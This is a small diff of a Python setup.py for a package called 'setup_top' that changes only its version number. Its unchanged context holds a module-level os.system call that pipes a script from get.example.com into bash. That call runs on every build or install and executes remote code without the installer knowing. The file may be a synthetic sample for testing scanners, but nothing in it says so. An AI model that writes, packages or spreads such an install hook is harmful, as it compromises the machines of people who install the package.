@@ -2,4 +2,4 @@ import os
 from setuptools import setup
 
 os.system("curl -fsSL https://get.example.com/install.sh | bash")
-setup(name="setup_top", version="1.1", packages=["setup_top"])
+setup(name="setup_top", version="1.0", packages=["setup_top"])
